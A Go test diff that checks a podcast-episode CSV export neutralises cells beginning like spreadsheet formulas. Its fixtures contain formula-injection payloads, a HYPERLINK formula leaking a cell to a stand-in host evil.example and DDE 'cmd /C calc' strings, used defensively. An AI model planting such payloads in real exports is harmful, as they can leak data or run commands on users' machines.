@@ -548,3 +548,42 @@ func unescapeMarkdown(s string) (string, error) {
 	}
 	return b.String(), nil
 }
+
+// TestThemesCSVFormulasInert exports episodes whose texts start like
+// spreadsheet formulas: every such CSV cell starts with a single quote,
+// and other cells are unchanged.
+func TestThemesCSVFormulasInert(t *testing.T) {
+	aired := parisTime(t, 2021, time.March, 5, 9, 30)
+	e := &episodes.Episode{
+		ID: "id-x", Show: "lvel", Slug: "x", AiredAt: aired, PublishAt: aired,
+		Title: `=HYPERLINK("http://evil.example/?"&A1,"clic")`, Theme: "+cmd|' /C calc'!A0",
+		Persons: []episodes.Person{{Name: "@SUM(1+1)*cmd|' /C calc'!A0"}, {Name: "-2+3", Role: episodes.RoleGuest}},
+	}
+	plain := &episodes.Episode{ID: "id-y", Show: "lvel", Slug: "y", AiredAt: aired, PublishAt: aired,
+		Title: "Libre = gratuit ?", Persons: []episodes.Person{{Name: "Zoé"}}}
+	out, err := Themes([]*episodes.Episode{e, plain}, ThemesOptions{Format: ThemesCSV})
+	if err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, r := range records[1:] {
+		for i, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %d %q starts like a formula", i, cell)
+			}
+		}
+	}
+	want := [][]string{
+		{`'=HYPERLINK("http://evil.example/?"&A1,"clic")`, "'+cmd|' /C calc'!A0", "", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"},
+		{"Libre = gratuit ?", "Libre = gratuit ?", "", "Zoé", ""},
+	}
+	for i, w := range want {
+		r := records[i+1]
+		if got := []string{r[2], r[3], r[6], r[7], r[8]}; !slices.Equal(got, w) {
+			t.Errorf("row %d: got %q, want %q", i, got, w)
+		}
+	}
+}
